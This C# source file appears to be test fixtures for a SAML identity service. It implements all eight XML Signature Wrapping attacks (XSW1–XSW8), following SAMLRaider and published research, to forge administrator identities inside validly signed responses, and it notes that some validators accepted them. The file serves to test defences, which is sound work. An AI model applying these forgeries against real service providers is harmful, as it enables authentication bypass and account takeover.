using System.Xml;

namespace IdentityBridge.Saml.Tests.Validation.World;

/// <summary>
/// XML Signature Wrapping XSW1–XSW8 as CompassSecurity SAMLRaider's XSWHelpers builds them (spec/saml.md 2.1, after
/// Somorovsky et al., "On Breaking SAML", USENIX Security 2012). Each takes Mallory's validly signed response and
/// leaves a signature that still verifies over some element, while the element a careless SP reads says "admin".
/// </summary>
public static class Wrapping
{
    public const string EvilResponseId = "_evil_response_ID";
    public const string EvilAssertionId = "_evil_assertion_ID";

    /// <summary>
    /// XSW1 (needs a signed Response): the Response becomes the evil one with a new ID; an unsigned clean clone
    /// with the original ID goes inside the Signature, which now references and verifies over the clone.
    /// </summary>
    public static XmlDocument Xsw1(XmlDocument doc)
    {
        var response = Dom.Response(doc);
        var clone = CleanClone(response);
        Dom.MakeEvil(response);
        Dom.Signature(response).AppendChild(clone);
        response.SetAttribute("ID", EvilResponseId);
        return doc;
    }

    /// <summary>XSW2 (signed Response): as XSW1, with the clean clone a sibling just before the Signature.</summary>
    public static XmlDocument Xsw2(XmlDocument doc)
    {
        var response = Dom.Response(doc);
        var clone = CleanClone(response);
        Dom.MakeEvil(response);
        response.InsertBefore(clone, Dom.Signature(response));
        response.SetAttribute("ID", EvilResponseId);
        return doc;
    }

    /// <summary>
    /// XSW3 (signed Assertion): an unsigned evil copy with a new ID is inserted before the untouched signed original.
    /// xmlsec1 --verify accepts the result; samlify 2.13 accepted it (spec 3.4).
    /// </summary>
    public static XmlDocument Xsw3(XmlDocument doc)
    {
        var assertion = Dom.Assertion(doc);
        var evil = EvilCopy(assertion, EvilAssertionId);
        doc.DocumentElement!.InsertBefore(evil, assertion);
        return doc;
    }

    /// <summary>XSW4 (signed Assertion): the evil copy replaces the original, which becomes its child.</summary>
    public static XmlDocument Xsw4(XmlDocument doc)
    {
        var assertion = Dom.Assertion(doc);
        var evil = EvilCopy(assertion, EvilAssertionId);
        doc.DocumentElement!.AppendChild(evil);
        evil.AppendChild(assertion);
        return doc;
    }

    /// <summary>
    /// XSW5 (signed Assertion): the original is edited in place and renamed but keeps its Signature; an unsigned
    /// clean clone with the original ID is appended to the Response, and the signature verifies over that clone.
    /// </summary>
    public static XmlDocument Xsw5(XmlDocument doc)
    {
        var evil = Dom.Assertion(doc);
        var clean = CleanClone(evil);
        Dom.MakeEvil(evil);
        doc.DocumentElement!.AppendChild(clean);
        evil.SetAttribute("ID", EvilAssertionId);
        return doc;
    }

    /// <summary>XSW6 (signed Assertion): as XSW5, with the clean clone inside the original Signature.</summary>
    public static XmlDocument Xsw6(XmlDocument doc)
    {
        var evil = Dom.Assertion(doc);
        var signature = Dom.Signature(evil);
        var clean = CleanClone(evil);
        Dom.MakeEvil(evil);
        signature.AppendChild(clean);
        evil.SetAttribute("ID", EvilAssertionId);
        return doc;
    }

    /// <summary>
    /// XSW7 (signed Assertion): an Extensions element (no namespace, as SAMLRaider creates it) before the
    /// assertion holds an unsigned evil copy with the same ID.
    /// </summary>
    public static XmlDocument Xsw7(XmlDocument doc)
    {
        var assertion = Dom.Assertion(doc);
        var extensions = doc.CreateElement("Extensions");
        doc.DocumentElement!.InsertBefore(extensions, assertion);
        extensions.AppendChild(EvilCopy(assertion, id: null));
        return doc;
    }

    /// <summary>
    /// XSW8 (signed Assertion): edited in place, same ID; the clean clone goes into a new Object element (no
    /// namespace, as SAMLRaider creates it) under the Signature.
    /// </summary>
    public static XmlDocument Xsw8(XmlDocument doc)
    {
        var evil = Dom.Assertion(doc);
        var signature = Dom.Signature(evil);
        var clean = CleanClone(evil);
        Dom.MakeEvil(evil);
        var obj = doc.CreateElement("Object");
        signature.AppendChild(obj);
        obj.AppendChild(clean);
        return doc;
    }

    /// <summary>A copy without its own Signature, content unchanged.</summary>
    private static XmlElement CleanClone(XmlElement element)
    {
        var clone = (XmlElement)element.CloneNode(deep: true);
        Dom.RemoveSignature(clone);
        return clone;
    }

    /// <summary>A copy without Signature, carrying the administrator's identity, under a new ID unless null.</summary>
    private static XmlElement EvilCopy(XmlElement assertion, string? id)
    {
        var evil = CleanClone(assertion);
        Dom.MakeEvil(evil);
        if (id is not null) evil.SetAttribute("ID", id);
        return evil;
    }
}
